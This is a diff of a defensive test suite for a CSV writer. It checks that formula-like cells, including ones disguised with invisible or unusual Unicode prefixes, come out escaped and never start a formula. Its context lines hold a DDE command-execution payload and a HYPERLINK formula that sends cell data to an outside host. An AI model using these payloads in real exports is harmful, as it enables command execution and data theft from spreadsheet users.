@@ -34,10 +34,32 @@ describe('a CSV record', () => {
     '＋1',
     '－1',
     '＠x',
+    '﹦1',
+    '\u200b=1+1',
+    '\u200d\u2060 +1',
+    '\u00ad-1',
+    '\u202e=1',
+    '\u2028=1',
+    '\u0085@x',
+    '\u001c=1',
+    '\u001f\u007f=1',
+    '\u180e=1',
+    '\ufe0f=1',
+    '\u115f\u3164=1',
+    '\u2800=1',
+    '\u{e0020}=1',
+    ';=1+1',
+    ', ;|\t=1+1',
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.org/?"&A1,"x")',
   ])('of %j starts no formula', (cell) => {
     expect(parseCsv(csvRecord([cell]))).toEqual([[`'${cell}`]])
+  })
+
+  it('is written in linear time', () => {
+    const blank = '\u200b '.repeat(500_000)
+    expect(csvRecord([blank])).toHaveLength(blank.length + 2)
+    expect(csvRecord([`${blank}=1`])).toBe(`'${blank}=1\r\n`)
   })
 
   it('reads back any content, and starts no cell with a formula', () => {
